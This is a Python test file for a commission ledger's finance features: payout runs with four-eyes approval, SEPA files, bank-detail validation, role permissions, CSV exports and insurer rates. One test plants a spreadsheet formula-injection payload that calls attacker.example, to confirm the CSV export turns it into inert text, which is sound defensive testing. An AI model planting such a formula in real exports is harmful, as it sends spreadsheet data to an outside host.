"""Finance's payout runs through the web and the API: prepare, four-eyes approval, the SEPA file, settlement;
bank details; disclosure releases; who may see and do what."""
from __future__ import annotations

import csv
import io
import re
from datetime import date, timedelta
from decimal import Decimal

import pytest
from sqlalchemy import func, select

from agreements.models import Agreement, CommissionRule
from core import events
from core.accounts import Organisation, PartnerStatus, Role
from core.audit import AuditEvent
from core.contracts import Contract, ContractTerm, Insurer
from core.products import ProductLine
from ledger import commissions, engine
from ledger.models import JournalEntry, PayoutRun, RunStatus
from tests.conftest import csrf_from
from tests.ledger.books import add_agreement, add_insurer, place_and_post
from tests.system_tools import pain001_errors

# commissions accrued and released in the month before last: a run for that month pays them
BOOKED = (date.today().replace(day=1) - timedelta(days=40)).replace(day=5)
PERIOD = f"{BOOKED:%Y-%m}"


@pytest.fixture
def books(session, make_org, make_user):
    insurer = add_insurer(session, since=date(2020, 1, 1))
    paid = make_org(PartnerStatus.specialist_broker, legal_name="Courtage Alpha", payout_account_holder="Courtage Alpha",
                    payout_iban="FR1420041010050500013M02606", payout_bic=None)
    unpaid = make_org(PartnerStatus.generalist_broker, legal_name="Beta Brokers")  # no bank details
    manager = make_user(Role.account_manager)
    for n, org in enumerate((paid, unpaid)):
        add_agreement(session, org, since=date(2020, 1, 1), payment_terms_days=30)
        place_and_post(session, insurer, org, policy=f"POL-{n}", placed_by_id=manager.id, start=BOOKED,
                       release_on=BOOKED)
    session.commit()
    return {"paid": paid, "unpaid": unpaid}


def available(session, org):
    session.expire_all()
    return engine.account(session, commissions.available(org.public_id), "EUR").normal_balance


def prepare(client):
    page = client.get("/finance/payout-runs")
    assert page.status_code == 200
    return client.post("/finance/payout-runs", data={
        "csrf_token": csrf_from(page.get_data(as_text=True)), "period": PERIOD, "currency": "EUR",
        "execution_date": (date.today() + timedelta(days=2)).isoformat()})


def post_on_run_page(client, run, action, **data):
    page = client.get(f"/finance/payout-runs/{run.public_id}")
    data["csrf_token"] = csrf_from(page.get_data(as_text=True))
    return client.post(f"/finance/payout-runs/{run.public_id}/{action}", data=data, follow_redirects=True)


def test_a_run_is_prepared_by_one_finance_user_and_approved_by_another(session, books, make_user, login, tmp_path):
    preparer, approver = make_user(Role.finance), make_user(Role.finance)
    first = login(preparer)
    r = prepare(first)
    assert r.status_code == 302
    run = session.execute(select(PayoutRun)).scalar_one()
    page = first.get(r.headers["Location"]).get_data(as_text=True)
    # the firm with an IBAN gets its 600.00; the one without is listed with the reason
    assert "Courtage Alpha" in page and "FR1420041010050500013M02606" in page and "600.00" in page
    assert "Beta Brokers" in page and "No bank details on file" in page
    assert "a second finance user must approve it" in page

    # the preparer cannot approve: nothing is posted
    r = post_on_run_page(first, run, "approve")
    assert "cannot approve" in r.get_data(as_text=True)
    session.refresh(run)
    assert run.status is RunStatus.prepared and available(session, books["paid"]) == 60_000

    second = login(approver)
    r = post_on_run_page(second, run, "approve")
    assert "approved" in r.get_data(as_text=True)
    session.refresh(run)
    assert run.status is RunStatus.approved and run.approved_by == approver.public_id
    assert available(session, books["paid"]) == 0 and available(session, books["unpaid"]) == 60_000

    # clicked again: nothing is paid twice
    r = post_on_run_page(second, run, "approve")
    assert "approved already" in r.get_data(as_text=True)
    assert available(session, books["paid"]) == 0
    assert session.execute(select(func.count()).select_from(JournalEntry)
                           .where(JournalEntry.event_kind == "payout.approved")).scalar_one() == 1

    # the SEPA file is valid against the ISO 20022 schema (checked by lxml, not by the library that wrote it)
    xml = second.get(f"/finance/payout-runs/{run.public_id}/pain001.xml")
    assert xml.status_code == 200 and xml.mimetype == "application/xml"
    assert pain001_errors(xml.data) == []
    assert b"<InstdAmt Ccy=\"EUR\">600.00</InstdAmt>" in xml.data and b"FR1420041010050500013M02606" in xml.data

    r = post_on_run_page(second, run, "settle", bank_reference="BNK-2026-001")
    session.refresh(run)
    assert run.status is RunStatus.settled and run.bank_reference == "BNK-2026-001"
    assert engine.account(session, "payouts_approved", "EUR").balance_minor == 0
    assert engine.account(session, "bank", "EUR").balance_minor == -60_000
    assert engine.verify(session) == []
    actions = set(session.execute(select(AuditEvent.action)).scalars())
    assert {"payout_run.prepared", "payout_run.approved", "payout_run.settled"} <= actions


def test_a_second_run_for_the_same_currency_waits_for_the_first(session, books, make_user, login):
    client = login(make_user(Role.finance))
    assert prepare(client).status_code == 302
    r = prepare(client)
    assert r.status_code == 422 and "already waiting for approval" in r.get_data(as_text=True)
    assert session.execute(select(func.count()).select_from(PayoutRun)).scalar_one() == 1


def test_admin_reads_finance_pages_but_cannot_act_and_partners_see_none(session, books, make_user, login):
    client = login(make_user(Role.finance))
    prepare(client)
    run = session.execute(select(PayoutRun)).scalar_one()
    admin = login(make_user(Role.admin))
    for url in ("/finance/", "/finance/payout-runs", f"/finance/payout-runs/{run.public_id}", "/finance/accruals",
                "/finance/trial-balance", "/finance/partners", "/finance/disclosures"):
        assert admin.get(url).status_code == 200, url
    page = admin.get(f"/finance/payout-runs/{run.public_id}").get_data(as_text=True)
    assert "Approve" not in page
    token = csrf_from(admin.get("/finance/payout-runs").get_data(as_text=True))
    assert admin.post(f"/finance/payout-runs/{run.public_id}/approve", data={"csrf_token": token}).status_code == 403
    assert admin.post("/finance/payout-runs", data={"csrf_token": token}).status_code == 403
    partner = login(make_user(Role.partner_admin, books["paid"]))
    for url in ("/finance/", "/finance/payout-runs", f"/finance/payout-runs/{run.public_id}/pain001.xml",
                "/finance/partners"):
        assert partner.get(url).status_code == 403, url


def test_csv_exports_carry_exact_amounts(session, books, make_user, login):
    client = login(make_user(Role.finance))
    r = client.get("/finance/trial-balance?format=csv")
    assert r.mimetype == "text/csv"
    rows = r.get_data(as_text=True).splitlines()
    assert rows[0] == "currency,account,type,debit,credit"
    assert f"EUR,{commissions.available(books['paid'].public_id)},liability,,600.00" in rows
    accruals = client.get(f"/finance/accruals?from={PERIOD}&to={PERIOD}&format=csv").get_data(as_text=True)
    assert f"{PERIOD},allianz-care,Courtage Alpha,EUR,1,1500.00,600.00,900.00" in accruals.splitlines()


def test_bank_details_are_checked_and_every_change_is_audited(session, books, make_user, login):
    client = login(make_user(Role.finance))
    org = books["unpaid"]
    url = f"/finance/partners/{org.public_id}/bank"
    token = csrf_from(client.get(url).get_data(as_text=True))
    r = client.post(url, data={"csrf_token": token, "account_holder": "Beta Brokers", "iban": "DE00370400440532013000",
                               "bic": "", "minimum": "50"})
    assert r.status_code == 422 and "This IBAN is not valid" in r.get_data(as_text=True)
    session.expire_all()
    assert session.get(Organisation, org.id).payout_iban is None
    r = client.post(url, data={"csrf_token": token, "account_holder": "Beta Brokers",
                               "iban": "DE89 3704 0044 0532 0130 00", "bic": "", "minimum": "100,00"})
    assert r.status_code == 302
    session.expire_all()
    saved = session.get(Organisation, org.id)
    assert (saved.payout_iban, saved.payout_bic, saved.payout_minimum_minor) == (
        "DE89370400440532013000", "COBADEFFXXX", 10_000)
    assert session.execute(select(AuditEvent).where(AuditEvent.action == "organisation.bank_details_changed")
                           ).scalar_one().subject_id == org.public_id


def test_finance_sees_the_held_shares_but_cannot_release_one(session, books, make_user, login):
    """Segregation of duties: finance runs the payouts, so only compliance's approval of the disclosures releases a
    hold (portal.disclosures); the finance page lists what is held and offers nothing to release it."""
    contract = session.execute(select(Contract).where(Contract.policy_number == "POL-0")).scalar_one()
    contract.terms.append(ContractTerm(number=2, start_date=BOOKED + timedelta(days=365),
                                       end_date=BOOKED + timedelta(days=729), premium_minor=1_000_000))
    event = events.emit(session, events.CONTRACT_RENEWED, contract.public_id, BOOKED, premium_minor=1_000_000,
                        currency="EUR", term=2)
    commissions.post_event(session, event, today=date.today())
    session.commit()
    before = available(session, books["paid"])
    for role in (Role.finance, Role.admin, Role.compliance):
        client = login(make_user(role))
        page = client.get("/finance/disclosures").get_data(as_text=True)
        assert "POL-0" in page and "300.00" in page and "release" not in page.lower().replace("released", "")
        r = client.post(f"/finance/disclosures/{contract.public_id}/release", data={"csrf_token": csrf_from(page)})
        assert r.status_code in (404, 405)
    assert available(session, books["paid"]) == before


def test_the_api_lists_runs_and_serves_the_file_to_finance_only(session, books, make_user, login, app, bearer):
    preparer, approver = make_user(Role.finance), make_user(Role.finance)
    prepare(login(preparer))
    run = session.execute(select(PayoutRun)).scalar_one()
    api = app.test_client()
    headers = bearer(approver)
    listed = api.get("/api/v1/payout-runs", headers=headers).get_json()
    assert listed["total"] == 1 and listed["items"][0]["reference"] == run.reference
    assert listed["items"][0]["lines"][0]["amount_minor"] == 60_000
    assert listed["items"][0]["exclusions"][0]["reason"] == "no_bank_details"
    assert api.get(f"/api/v1/payout-runs/{run.public_id}/pain001", headers=headers).status_code == 404  # not approved
    post_on_run_page(login(approver), run, "approve")
    r = api.get(f"/api/v1/payout-runs/{run.public_id}/pain001", headers=headers)
    assert r.status_code == 200 and b"CstmrCdtTrfInitn" in r.data
    assert api.get("/api/v1/payout-runs?status=paid", headers=headers).status_code == 422
    partner = make_user(Role.partner_admin, books["paid"])
    r = api.get("/api/v1/payout-runs", headers=bearer(partner))
    assert r.status_code == 403 and r.get_json()["error"]["code"]


def test_finance_records_an_insurer_rate_from_a_date_and_what_was_posted_keeps_its_rate(session, books, make_user,
                                                                                       login):
    client = login(make_user(Role.finance))
    page = client.get("/finance/insurer-rates")
    assert page.status_code == 200 and "15%" in page.get_data(as_text=True)
    insurer = session.execute(select(Insurer)).scalar_one()
    token = csrf_from(page.get_data(as_text=True))
    form = {"csrf_token": token, "insurer": insurer.public_id, "product_line": "family",
            "effective_from": date.today().isoformat()}
    for bad in ("0", "100", "12.345", "abc"):
        r = client.post("/finance/insurer-rates", data={**form, "rate": bad})
        assert r.status_code == 422 and "percentage" in r.get_data(as_text=True), bad
    assert session.execute(select(func.count()).select_from(commissions.InsurerRate)).scalar_one() == 1
    r = client.post("/finance/insurer-rates", data={**form, "rate": "17,5"})
    assert r.status_code == 302
    assert commissions.insurer_rate(session, insurer, ProductLine.family, date.today()) == Decimal("0.175")
    assert commissions.insurer_rate(session, insurer, ProductLine.family, BOOKED) == Decimal("0.15")
    # already posted commissions are not re-priced
    assert engine.account(session, commissions.receivable(insurer), "EUR").balance_minor == 2 * 150_000
    admin = login(make_user(Role.admin))
    seen = admin.get("/finance/insurer-rates")
    assert seen.status_code == 200 and "Record the rate" not in seen.get_data(as_text=True)
    admin_token = csrf_from(admin.get("/finance/payout-runs").get_data(as_text=True))
    assert admin.post("/finance/insurer-rates", data={**form, "csrf_token": admin_token, "rate": "20"}
                      ).status_code == 403


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_come_out_as_text(session, books, make_user, login):
    books["paid"].legal_name = '=HYPERLINK("http://attacker.example/?x="&A1,"Click for your payout")'
    session.commit()
    text = login(make_user(Role.finance)).get("/finance/partners?format=csv").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(text)))
    names = {row[0] for row in rows[1:]}
    assert "'" + books["paid"].legal_name in names
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
    # amounts stay numbers, negative ones included
    assert all(re.fullmatch(r"-?\d+\.\d{2}", row[2]) for row in rows[1:])


def test_the_run_page_and_the_api_list_shares_not_yet_due_with_their_due_date(session, books, make_user, login, app,
                                                                               bearer):
    from agreements.models import PaymentTermsBasis

    rule = session.execute(select(CommissionRule).join(Agreement).where(
        Agreement.organisation_id == books["paid"].id)).scalar_one()
    rule.payment_terms_days = 120  # from the end of BOOKED's month: later than any run prepared now
    rule.payment_terms_basis = PaymentTermsBasis.statement_month_end
    session.commit()
    due_on = engine.month_end(BOOKED) + timedelta(days=120)

    finance = make_user(Role.finance)
    client = login(finance)
    prepare(client)
    run = session.execute(select(PayoutRun)).scalar_one()
    assert run.lines == [] and run.total_minor == 0
    page = client.get(f"/finance/payout-runs/{run.public_id}").get_data(as_text=True)
    assert "Not yet due under the agreement&#39;s payment terms" in page
    assert f'<time datetime="{due_on.isoformat()}">' in page and "POL-0" in page

    body = app.test_client().get(f"/api/v1/payout-runs/{run.public_id}", headers=bearer(finance)).get_json()
    [held_back] = [ex for ex in body["exclusions"] if ex["reason"] == "not_yet_due"]
    assert held_back == {"partner": books["paid"].public_id, "payee_name": "Courtage Alpha", "reason": "not_yet_due",
                         "balance_minor": 60_000, "policy_number": "POL-0", "term": 1, "payment_terms_days": 120,
                         "payment_terms_basis": "statement_month_end", "due_on": due_on.isoformat()}


def test_the_insurer_rates_page_offers_the_volunteer_top_up_lines(session, books, make_user, login):
    """Finance sets the insurer's commission rate on the volunteers' top-ups too (the cases do not offer them)."""
    client = login(make_user(Role.finance))
    page = client.get("/finance/insurer-rates")
    text = page.get_data(as_text=True)
    assert 'value="volunteer_health_topup"' in text and 'value="volunteer_prevoyance_topup"' in text
    insurer = session.execute(select(Insurer)).scalar_one()
    r = client.post("/finance/insurer-rates", data={"csrf_token": csrf_from(text), "insurer": insurer.public_id,
                                                    "product_line": "volunteer_prevoyance_topup", "rate": "12",
                                                    "effective_from": date.today().isoformat()})
    assert r.status_code == 302
    assert commissions.insurer_rate(session, insurer, ProductLine.volunteer_prevoyance_topup,
                                    date.today()) == Decimal("0.12")
